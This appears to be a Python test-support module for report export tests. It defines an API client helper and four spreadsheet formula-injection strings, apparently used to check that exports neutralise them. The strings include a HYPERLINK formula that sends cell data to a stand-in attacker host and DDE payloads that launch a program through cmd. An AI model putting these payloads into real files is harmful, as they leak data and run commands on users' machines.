"""What the report fixtures and tests share: the served API and the formula-like texts."""

from __future__ import annotations

from dataclasses import dataclass

import httpx

# Text a spreadsheet would run as a formula if it were written as one.
HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"Acme")'
HOSTILE_EXPLANATION = "+cmd|' /C calc'!A0 revenue rose"
HOSTILE_VENDOR = "-2+3"
HOSTILE_PRODUCT = "@SUM(1+1)*cmd|' /C calc'!A0"


@dataclass
class Api:
    """A running API server: its URL, one key per role, the snapshot it serves."""

    url: str
    keys: dict[str, str]
    snapshot_id: str

    def client(self, role: str | None = "viewer") -> httpx.Client:
        headers = {"Authorization": f"Bearer {self.keys[role]}"} if role else {}
        return httpx.Client(base_url=self.url, headers=headers, timeout=60)
